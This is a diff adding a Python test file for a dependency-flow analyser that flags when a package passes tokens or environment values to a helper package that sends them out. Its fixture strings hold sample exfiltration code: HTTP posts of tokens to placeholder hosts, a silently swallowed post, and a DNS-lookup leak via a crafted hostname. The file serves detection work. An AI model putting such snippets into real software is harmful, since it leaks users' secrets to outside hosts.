@@ -1,0 +1,83 @@
+"""Ways across distributions, and what is odd about them."""
+
+from __future__ import annotations
+
+import pytest
+
+from stockade.analyse.flows.link import CERTAIN, TOLD, Oddity
+from tests.analyse.flows.following import PLACE, linked
+
+_HELPER = f"import requests\ndef take(photo):\n    requests.post({PLACE}, data=photo)\n"
+_QUIET = (
+    "import requests\ndef take(photo):\n    try:\n        requests.post('https://a.example.invalid', data=photo)\n"
+    "    except Exception:\n        pass\n"
+)
+
+_HIDES, _HUSHES = {Oddity.HIDDEN, Oddity.RENAMED}, {Oddity.QUIET, Oddity.RENAMED, Oddity.MAKING}
+
+
+@pytest.mark.parametrize(
+    ("giver", "taker", "oddities"),
+    [
+        ("import helper\ndef f(token):\n    helper.take(token)\n", _HELPER, _HIDES),
+        (
+            "import helper\nclass C:\n    def __init__(self, token):\n        helper.take(token)\n",
+            _QUIET,
+            _HUSHES,
+        ),
+        ("import helper\ndef f(token):\n    helper.take(token)\n", _QUIET.replace("photo", "token"), None),
+        ("import helper\ndef f(colour):\n    helper.take(colour)\n", _HELPER, None),
+        ("import helper\ndef f(token):\n    helper.other(token)\n", _HELPER, None),
+        ("import helper\ndef f(token):\n    helper.take(1, token)\n", _HELPER, None),
+        (
+            "import helper\ndef f(token):\n    helper.take(photo=token)\n",
+            _HELPER,
+            _HIDES,
+        ),
+        ("import helper\ndef f(token):\n    helper.take(other=token)\n", _HELPER, None),
+        (
+            "import helper\ndef f(token):\n    helper.take(**{'photo': token})\n",
+            _HELPER,
+            _HIDES,
+        ),
+        ("import helper\nimport os\ndef f():\n    helper.take(os.environ['A'])\n", _HELPER, {Oddity.HIDDEN}),
+        (
+            "import helper\ndef f(token):\n    helper.take(token)\n",
+            "import socket\ndef take(name):\n    socket.gethostbyname(f'{name}.a.example.invalid')\n",
+            {Oddity.LOOKUP, Oddity.RENAMED},
+        ),
+    ],
+)
+def test_what_is_odd_is_told(giver: str, taker: str, oddities: set[Oddity] | None) -> None:
+    found = linked(cloud=giver, helper=taker)
+    assert [set(one.oddities) for one in found] == ([] if oddities is None else [oddities])
+    assert all(one.weight >= TOLD for one in found)
+
+
+def test_three_deep_and_under_another_name() -> None:
+    cloud = "import middle\ndef f(token):\n    middle.give(token)\n"
+    (found,) = linked(
+        cloud=cloud, middle="import helper\ndef give(text):\n    helper.take(text)\n", helper=_HELPER
+    )
+    assert (found.giver, found.taker, found.weight) == (0, 2, CERTAIN)
+    assert [step.artifact for step in found.path] == ["cloud.whl", "cloud.whl", "middle.whl", "helper.whl"]
+    (renamed,) = linked(cloud=cloud, middle="from helper import take as give\n", helper=_HELPER)
+    assert (renamed.giver, renamed.taker) == (0, 2)
+
+
+def test_circles_end_and_one_project_is_not_linked_with_itself() -> None:
+    give = "import {}\ndef give(token):\n    {}.give(token)\n"
+    assert linked(one=give.format("two", "two"), two=give.format("one", "one")) == []
+
+
+def test_objects_are_known_by_what_makes_them() -> None:
+    helper = (
+        f"import requests\nclass Base:\n    def go(self, photo):\n        requests.post({PLACE}, data=photo)\n"
+        "class Made(Base):\n    pass\ndef make():\n    return Made()\n"
+    )
+    for call in ("helper.make().go(token)", "helper.Made().go(token)", "helper.Base().go(token)"):
+        assert linked(cloud=f"import helper\ndef f(token):\n    {call}\n", helper=helper), call
+    inherits = (
+        "import helper\nclass C(helper.Made):\n    def __init__(self, token):\n        self.go(token)\n"
+    )
+    assert linked(cloud=inherits, helper=helper)
